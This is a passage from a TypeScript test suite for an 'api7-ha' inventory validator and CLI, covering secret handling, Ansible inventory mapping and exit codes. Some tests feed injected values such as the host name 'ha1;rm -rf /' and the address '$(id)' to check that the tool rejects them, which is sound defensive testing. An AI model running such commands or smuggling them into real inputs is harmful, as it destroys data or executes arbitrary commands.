  void it('refuses a missing sudo_password or key passphrase file before anything runs', () => {
    for (const [field, file] of [
      ['sudo_password', 'secrets/nope-sudo'],
      ['passphrase', 'secrets/nope-passphrase'],
    ] as const) {
      const issues = issuesOf(() =>
        parseLab((d) => {
          setPath(d, 'ssh.user', 'deploy');
          setPath(d, 'ssh.sudo', true);
          setPath(d, `ssh.${field}`, { file });
        }),
      );
      assert.equal(issueAt(issues, `ssh.${field}.file`).message, `file ${fx(file)} does not exist`);
    }
  });

  void it('reports a missing secret file at the inventory field that names it', () => {
    refusedAt((d) => setPath(d, 'control_plane.auth_secret', { file: 'secrets/nope' }), 'control_plane.auth_secret.file', /does not exist/, /dashboard secret/);
  });
});

void describe('Ansible inventories', () => {
  const ansibleDoc = parse(readFileSync(ANSIBLE_YAML, 'utf8')) as Doc;
  const freshAnsible = (): Doc => structuredClone(ansibleDoc);
  const groupHosts = (d: Doc, group: string) => ((section(d, 'all')['children'] as Doc)[group] as Doc)['hosts'] as Doc;

  void it('gives the same ClusterSpec as the native inventory (groups -> roles, ansible_* -> ssh, all.vars.api7_ha -> settings)', () => {
    const fromAnsible = loadInventory(ANSIBLE_YAML);
    assert.deepEqual(fromAnsible.spec, expectedLabSpec(ANSIBLE_YAML));
    assert.deepEqual(fromAnsible.warnings, []);
  });

  void it('maps ansible_user/port/become and api7_sudo_password_env to ssh settings', () => {
    const d = freshAnsible();
    const vars = section(section(d, 'all'), 'vars');
    vars['ansible_user'] = 'deploy';
    vars['ansible_become'] = true;
    vars['api7_sudo_password_env'] = 'DEPLOY_SUDO_PASSWORD';
    groupHosts(d, 'data_plane')['ha4'] = { ansible_host: '10.88.0.14', ansible_port: '2222' };
    const { spec } = parseInventory(stringify(d), fx('ansible-case.yaml'));
    const ha4 = spec.hosts.find((h) => h.name === 'ha4');
    assert.deepEqual([ha4?.ssh.user, ha4?.ssh.port, ha4?.ssh.sudo, ha4?.ssh.sudoPassword], ['deploy', 2222, true, { env: 'DEPLOY_SUDO_PASSWORD' }]);
    assert.equal(spec.hosts.find((h) => h.name === 'ha1')?.ssh.port, 22);
  });

  void it('refuses an inline ansible_become_password without echoing it', () => {
    const d = freshAnsible();
    (groupHosts(d, 'etcd')['ha1'] as Doc)['ansible_become_password'] = 'pa55-inline-value';
    let err: unknown;
    try {
      parseInventory(stringify(d), fx('ansible-case.yaml'));
    } catch (e) {
      err = e;
    }
    assert.ok(err instanceof InventoryError);
    const issue = issueAt(err.issues, 'hosts.ha1.ansible_become_password');
    assert.match(issue.message, /an inline secret: api7-ha takes secrets by reference only/);
    assert.match(issue.fix, /api7_sudo_password_env: VARIABLE/);
    assert.ok(!err.message.includes('pa55-inline-value'));
  });

  void it('refuses an inline ansible_password set for all hosts, once per host', () => {
    const d = freshAnsible();
    section(section(d, 'all'), 'vars')['ansible_password'] = 'pa55';
    const issues = issuesOf(() => parseInventory(stringify(d), fx('ansible-case.yaml')));
    assert.deepEqual(
      issues.map((i) => i.path),
      ['ha1', 'ha2', 'ha3', 'ha4', 'ha5', 'lb'].map((h) => `hosts.${h}.ansible_password`),
    );
  });

  void it('refuses an Ansible inventory without all.vars.api7_ha', () => {
    const d = freshAnsible();
    delete section(section(d, 'all'), 'vars')['api7_ha'];
    const issues = issuesOf(() => parseInventory(stringify(d), fx('ansible-case.yaml')));
    assert.deepEqual(issues.map((i) => i.path), ['all.vars.api7_ha']);
    assert.match(issues[0]!.fix, /add all\.vars\.api7_ha with cluster:, packages:/);
  });

  void it('refuses an Ansible inventory with no host in the role groups', () => {
    const d = freshAnsible();
    section(d, 'all')['children'] = { monitoring: { hosts: { prometheus: null } } };
    const issues = issuesOf(() => parseInventory(stringify(d), fx('ansible-case.yaml')));
    assert.equal(issueAt(issues, 'all.children').message, 'no host is in the groups etcd, control_plane, data_plane or load_balancer');
  });

  void it('validates Ansible values with the same patterns (ansible_host: "$(id)")', () => {
    const d = freshAnsible();
    groupHosts(d, 'etcd')['ha3'] = { ansible_host: '$(id)' };
    const issues = issuesOf(() => parseInventory(stringify(d), fx('ansible-case.yaml')));
    assert.match(issueAt(issues, 'hosts[2].address').message, /must be an IPv4 address or a DNS name/);
  });
});

void describe('the CLI exits 2 on a bad inventory, naming the field and the fix', () => {
  const cliEntry = path.join(ROOT, 'bin', 'api7-ha.js');
  const built = existsSync(path.join(ROOT, 'dist', 'src', 'cli', 'main.js'));
  const skip = built ? false : 'the CLI is not built (run npx tsc -p tsconfig.build.json)';
  const tmp = mkdtempSync(path.join(tmpdir(), 'api7-ha-inv-'));
  const artifacts = writeLabArtifacts(path.join(tmp, 'packages'));
  after(() => rmSync(tmp, { recursive: true, force: true }));

  /** Write a lab inventory with absolute paths (it lives outside the fixtures folder) and hosts in TEST-NET-1. */
  function writeInventory(name: string, mutate: (d: Doc) => void): string {
    const d = freshLab();
    setPath(d, 'ssh.identity_file', fx('keys/deploy_key'));
    setPath(d, 'ssh.known_hosts', fx('keys/known_hosts'));
    // Real (small) vendor-shaped packages: the CLI reads their layout before anything starts.
    const packages = section(d, 'packages');
    packages['control_plane'] = artifacts.controlPlane;
    packages['data_plane'] = artifacts.dataPlane;
    (packages['etcd_image'] as Doc)['tarball'] = artifacts.etcdImage;
    (packages['haproxy_image'] as Doc)['tarball'] = artifacts.haproxyImage;
    setPath(d, 'control_plane.auth_secret', { file: fx('secrets/dashboard-secret') });
    setPath(d, 'control_plane.admin.password', { file: fx('secrets/admin-password') });
    hostsOf(d).forEach((h, i) => (h['address'] = `192.0.2.${11 + i}`));
    mutate(d);
    const file = path.join(tmp, name);
    writeFileSync(file, stringify(d));
    return file;
  }

  /** Run the installed entry point; resolves with the exit code and both streams. */
  const runCli = (...args: string[]) =>
    new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve, reject) => {
      const child = spawn(process.execPath, [cliEntry, ...args], { cwd: tmp, timeout: 30_000, env: { ...process.env, TEMPORAL_ADDRESS: '127.0.0.1:1' } });
      let stdout = '';
      let stderr = '';
      child.stdout.setEncoding('utf8').on('data', (c: string) => (stdout += c));
      child.stderr.setEncoding('utf8').on('data', (c: string) => (stderr += c));
      child.on('error', reject);
      child.on('close', (status) => resolve({ status, stdout, stderr }));
    });

  void it('validate: a shell-injection host name -> exit 2, the field and the fix on stderr', { skip }, async () => {
    const file = writeInventory('bad-name.yaml', (d) => setPath(d, 'hosts[0].name', 'ha1;rm -rf /'));
    const r = await runCli('validate', '-i', file);
    assert.equal(r.status, 2, r.stderr);
    assert.match(r.stderr, /hosts\[0\]\.name: must be lowercase letters, digits and dashes/);
    assert.match(r.stderr, /fix: set hosts\[0\]\.name to lowercase letters/);
    assert.equal(r.stdout, '');
  });

  void it('validate: two dashboards without auth_secret -> exit 2 with the fix', { skip }, async () => {
    const file = writeInventory('no-secret.yaml', (d) => delete section(d, 'control_plane')['auth_secret']);
    const r = await runCli('validate', '-i', file);
    assert.equal(r.status, 2, r.stderr);
    assert.match(r.stderr, /control_plane\.auth_secret: 2 dashboards without a shared authentication\.secret/);
    assert.match(r.stderr, /fix: set control_plane\.auth_secret: \{ env: API7_DASHBOARD_SECRET \}/);
  });

  void it('deploy --plan: a bad inventory exits 2 before any SSH connection', { skip }, async () => {
    const file = writeInventory('even-etcd.yaml', (d) => setPath(d, 'hosts[3].roles', ['data_plane', 'etcd']));
    const r = await runCli('deploy', '-i', file, '--plan');
    assert.equal(r.status, 2, r.stderr);
    assert.match(r.stderr, /hosts: 4 etcd members: an even count/);
    assert.match(r.stderr, /fix: use an odd number of etcd members \(3 or 5\)/);
    assert.equal(r.stdout, '', 'nothing was planned');
  });

  void it('validate: the lab inventory -> exit 0 with its etcd members', { skip }, async () => {
    const r = await runCli('validate', '-i', writeInventory('lab.yaml', () => undefined));
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stdout, /: valid\n/);
    assert.match(r.stdout, /etcd: ha1\(api7-etcd-1\), ha2\(api7-etcd-2\), ha3\(api7-etcd-3\)/);
  });
});

void describe('the inventory vocabulary', () => {
  void it('names every drill scenario of the catalogue, in its order, so `drills.scenarios` accepts each one and no other', () => {
    assert.deepEqual([...SCENARIO_IDS], Object.keys(SCENARIOS));
  });
});
